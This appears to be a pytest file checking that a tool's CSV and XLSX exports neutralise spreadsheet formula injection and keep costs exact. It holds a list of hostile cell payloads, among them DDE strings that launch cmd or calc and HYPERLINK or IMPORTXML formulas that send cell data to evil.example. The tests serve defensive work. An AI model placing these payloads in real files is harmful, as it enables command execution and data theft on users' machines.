"""CSV and XLSX: exact money, unique columns, and nothing that a spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
import os
import re
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from export_records import MODELS, call_fact, cell_fact, record_of, written
from pydantic import SecretStr

from assay.config import Gateway, Settings
from assay.datasets.export import safe_cell
from assay.domain.contestant import Contestant, Prompt
from assay.domain.score import GraderSpec, Score
from assay.exports import xlsx
from assay.exports.record import CellFact
from assay.exports.redact import redacted
from assay.leftovers import mark
from assay.money import from_pico
from assay.sandbox import Fault, SandboxConfig, SandboxServer
from assay.store import spend as sums
from assay.workbench.datasets import kept
from assay.workbench.results import exports, standing
from assay.workbench.running import runs
from assay.workbench.running.runs import RunDraft
from assay.workbench.session import Session, open_session
from assay.workbench.spending import spend

PAYLOADS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  +1+1",
    "\x00=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "|calc",
    "%0A=1+1",
    "=A1",
    "=1",
    "=-1",
    "+A1",
    "-A1",
    "@A1",
    '="a"&"b"',
    "='x'!A1",
    "=SUM(A1:A9)",
    "+cmd|' /C notepad'!'A1'",
    "=rundll32|'URL.dll,OpenURL'!A",
    '=DDE("cmd";"/C calc";"1")',
    "@import",
    "-@x",
    "=\t1",
    "= 1",
    "==1",
    "#N/A",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "\x1b=1",
    "\ufe66=1",
    "\u22121+A1",
    "_x003D_1+1",
)
MANY = 60
"""Rows of a run that stops before it has asked them all."""
FORMULA = re.compile(r"^\s*[=+@\uff1d\uff0b\uff20|%\t\r\x00]")


def rows_of(data: bytes) -> list[list[str]]:
    """A CSV's rows, the header first."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def hostile() -> Iterator[CellFact]:
    """Cells with a payload in every text."""
    for n, text in enumerate(PAYLOADS):
        yield cell_fact(
            n,
            output=text,
            error=text,
            reasoning=text,
            row_key=text,
            values=(text, text),
            scores=(Score("contains", 1.0, True, text),),
        )


@pytest.mark.parametrize("kind", ["csv", "tidy", "wide"])
def test_csv_cell_is_never_a_formula(kind: str) -> None:
    """No cell of 40 hostile rows begins as a formula does; the mark and CRLF let Excel open it right."""
    data = written(record_of(hostile, rows=len(PAYLOADS), name="=1+1"), kind)

    assert len(PAYLOADS) >= 40
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    for row in rows_of(data):
        for value in row:
            assert not FORMULA.match(value), value
            assert not value.lstrip().startswith("-"), value


@pytest.mark.parametrize("text", ["-5", "+5", "-1.5e-3", "-1,234.56", " -7", "-5 %", "007", "1e5", "-.5", "it's", ""])
def test_numbers_and_plain_words_stay_what_they_are(text: str) -> None:
    """Only what a spreadsheet would compute gets an apostrophe."""
    assert safe_cell(text) == text


@pytest.mark.parametrize("kind", ["csv", "tidy", "wide", "xlsx"])
def test_headings_are_safe_and_each_there_once(kind: str) -> None:
    """Hostile names of columns and contestants, and a column named as a grader's, break no table."""
    names = ("=1+1", "contains score", "output", "@x", "maker/one output", "\u202e=evil")
    record = record_of(lambda: iter([cell_fact(0, values=("a",) * len(names))]), rows=1)
    record = replace(record, columns=names, board=tuple(replace(line, label="=cmd()") for line in record.board))
    data = written(record, kind)
    if kind == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(data))["Rows"]
        table = [[str(cell.value) for cell in row] for row in sheet.iter_rows()]
    else:
        table = rows_of(data)

    assert len(set(table[0])) == len(table[0]) == len(table[1])
    assert not [name for name in table[0] if FORMULA.match(name.lstrip("\u202e"))]


def test_xlsx_cell_is_never_a_formula() -> None:
    """Every text of the re-opened workbook is a string, with the guard for a later CSV."""
    data = written(record_of(hostile, rows=len(PAYLOADS), name="=1+1"), "xlsx")

    book = openpyxl.load_workbook(io.BytesIO(data))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
    texts = [str(cell.value) for row in book["Rows"].iter_rows() for cell in row if cell.data_type == "s"]
    assert kinds <= {"s", "n", "b"}
    assert book["Rows"].max_row == len(PAYLOADS) + 1
    assert not [text for text in texts if FORMULA.match(text)]
    assert book["Summary"]["B1"].value == "'=1+1"


def test_xlsx_leaves_nothing_that_is_not_marked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The sheets' temporary files bear their process's name, so that those of a killed one are swept; then none is."""
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    dead = tmp_path / mark().replace(f"-{os.getpid()}-", "-999999999-")
    dead = dead.with_name(f"{dead.name}-sheet")
    dead.touch()
    seen: set[str] = set()

    def cells() -> Iterator[CellFact]:
        seen.update(path.name for path in tmp_path.iterdir())
        yield cell_fact(0)

    xlsx.write(record_of(cells, rows=1), io.BytesIO())

    assert seen
    assert all(name.startswith(f"{mark()}-") for name in seen)
    assert list(tmp_path.iterdir()) == []


def test_xlsx_survives_forbidden_characters_and_long_texts() -> None:
    """Characters that XML forbids are dropped; a text past a cell's limit, as Excel counts, is cut and says so."""
    texts = ("a\x00b\x08c\x1fd\ufffee\ud800f", "x" * 40_000, "\U0001f600" * 20_000, "_x003D_1")

    data = written(record_of(lambda: (cell_fact(n, output=text) for n, text in enumerate(texts)), rows=4), "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(data))["Rows"]
    column = [cell.value for cell in sheet[1]].index("output")
    assert sheet[2][column].value == "a\ufffdbcde?f"
    for row in (3, 4):
        assert 32_765 <= len(sheet[row][column].value.encode("utf-16-le")) // 2 <= 32_767
        assert "cut" in sheet[row][column].value
    assert sheet[5][column].value == "_x005F_x003D_1", "Excel reads _x003D_ as an equals sign"


def test_costs_are_exact_in_every_table(session: Session, run_id: str) -> None:
    """The calls' costs add up to the ledger's sum to the last pico-dollar; so do the cells' in the other tables."""
    known = spend.spent(session, sums.SpendFilter(run_id=run_id)).known_pico
    record = exports.run_record(session, run_id)
    tidy = rows_of(written(record, "tidy"))
    plain = rows_of(written(record, "csv"))
    wide = rows_of(written(record, "wide"))
    sheet = openpyxl.load_workbook(io.BytesIO(written(record, "xlsx")))["Rows"]

    at = [tidy[0].index(name) for name in ("kind", "cost_usd")]
    assert sum(Decimal(row[at[1]]) for row in tidy[1:] if row[at[0]] == "call") == from_pico(known)
    amounts = ("cost_usd", "judging_usd")
    columns = [plain[0].index(name) for name in amounts]
    assert sum(Decimal(row[n]) for row in plain[1:] for n in columns) == from_pico(known)
    costs = [n for n, name in enumerate(wide[0]) if name.endswith(amounts)]
    assert sum(Decimal(row[n]) for row in wide[1:] for n in costs) == from_pico(known)
    columns = [[cell.value for cell in sheet[1]].index(name) for name in amounts]
    found = [Decimal(str(row[n].value)) for row in sheet.iter_rows(min_row=2) for n in columns]
    assert sum(found) == from_pico(known)


def test_tidy_has_a_line_per_call_and_score(session: Session, run_id: str) -> None:
    """24 answers and 24 judge calls, two scores for each answer."""
    table = rows_of(written(exports.run_record(session, run_id), "tidy"))
    kinds = [row[table[0].index("kind")] for row in table[1:]]

    assert kinds.count("call") == spend.spent(session, sums.SpendFilter(run_id=run_id)).calls == 48
    assert kinds.count("score") == 48
    assert len(set(table[0])) == len(table[0])


def test_wide_has_a_line_per_row(session: Session, run_id: str) -> None:
    """One line per ticket, the contestants beside each other, every heading once."""
    table = rows_of(written(exports.run_record(session, run_id), "wide"))

    assert len(table) == 13
    assert len(set(table[0])) == len(table[0])
    assert {"atlas-large output", "swift output"} <= set(table[0])
    passed = sum(row[table[0].index("swift result")] == "pass" for row in table[1:])
    assert passed == next(line.correct for line in standing.scoreboard(session, run_id) if line.label == "swift")


def test_cached_and_unknown_costs_are_told_apart() -> None:
    """A cached answer costs 0 and has no call; an unknown cost is empty, never 0, and its source says so."""
    cached = cell_fact(0, cached=True, calls=(), call_id=None, cost_pico=0)
    lost = call_fact(1, cost_pico=None, provenance="unknown")
    unknown = cell_fact(1, cost_pico=None, calls=(lost,), call_id=None, status="failed", error="Gone.", passed=None)
    record = record_of(lambda: iter((cached, unknown)), rows=2)
    tidy, plain = rows_of(written(record, "tidy")), rows_of(written(record, "csv"))

    assert tidy[1][tidy[0].index("provenance")] == "cached"
    assert [row[plain[0].index("cost_usd")] for row in plain[1:]] == ["0", ""]
    assert [row[plain[0].index("provenance")] for row in plain[1:]] == ["cached", "unknown"]
    (call,) = (dict(zip(tidy[0], row, strict=True)) for row in tidy if "call1" in row)
    assert (call["cost_usd"], call["provenance"]) == ("", "unknown")
    assert "Gone." in plain[2]


def test_run_that_stopped_has_all_its_calls_and_rows_in_the_tables(tmp_path: Path) -> None:
    """Of a run that ended for lack of credits every call has its line in the tidy table, so that the sum is the
    ledger's to the pico-dollar, and every row its line in the wide one."""
    faults = (Fault("402_credits", rate=0.2), Fault("no_usage", rate=0.3))
    with (
        SandboxServer(SandboxConfig(speed=0, faults=faults, seed=3, generation_delay_s=3_600)) as server,
        open_session(
            Settings(database_url=f"sqlite:///{tmp_path}/a.db"),
            gateway=Gateway("sandbox", server.base_url, SecretStr("sk-test")),
        ) as session,
    ):
        session.ready()
        dataset = kept.open_dataset(session, "support_tickets")
        models = tuple(Contestant(name) for name in MODELS)
        draft = RunDraft(dataset.id, (Prompt("{{ticket}}"),), models, (GraderSpec("json"),), limit=MANY)
        state = runs.wait_for_run(session, runs.start_run(session, draft), timeout_s=60)
        record = exports.run_record(session, state.id)
        head, *lines = rows_of(written(record, "tidy"))
        wide = rows_of(written(record, "wide"))
        hidden = rows_of(written(redacted(record, ["ticket", "row_key"]), "wide"))
        ledger = spend.spent(session, sums.SpendFilter(run_id=state.id))

    asked = [row[: len(record.columns) + 1] for row in wide[1:]]
    assert (len(asked), len({row[0] for row in asked})) == (MANY, MANY), "rows without an answer are there too"
    assert [row[: len(record.columns) - 1] for row in hidden[1:]] == [[*row[1:4], row[5]] for row in asked]
    assert not all(any(row[len(record.columns) + 1 :]) for row in wide[1:]), "some row was not reached"
    found = [dict(zip(head, line, strict=True)) for line in lines]
    calls = [line for line in found if line["call"]]
    assert state.state == "paused"
    assert len(calls) == ledger.calls
    assert [c for c in calls if not c["row_key"]], "some call has left no answer"
    assert all(c["contestant"] and c["cell"] for c in calls)
    assert sum(Decimal(c["cost_usd"] or 0) for c in calls) == from_pico(ledger.known_pico)
    assert sum(c["cost_usd"] == "" for c in calls) == ledger.unknown_calls
    assert all((c["provenance"] == "unknown") == (c["cost_usd"] == "") for c in calls)


@pytest.mark.parametrize("kind", ["csv", "tidy", "wide", "jsonl", "junit", "promptfoo"])
def test_streaming_memory_does_not_grow_with_rows(kind: str) -> None:
    """Ten times the rows take no more memory."""

    class Nowhere(io.RawIOBase):
        def write(self, data: object) -> int:
            return 0

    failed = (Score("contains", 0.0, False, "No."),)

    def peak(rows: int) -> int:
        record = record_of(
            lambda: (cell_fact(n, output="x" * 1000, passed=False, scores=failed) for n in range(rows)), rows=rows
        )
        tracemalloc.start()
        exports.KINDS[kind].write(record, Nowhere())  # type: ignore[arg-type]
        found = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return found

    peak(10)
    # Held rows would be 10 MB; what else the process does meanwhile is counted too.
    assert peak(10_000) < peak(1_000) * 1.5 + 1_000_000
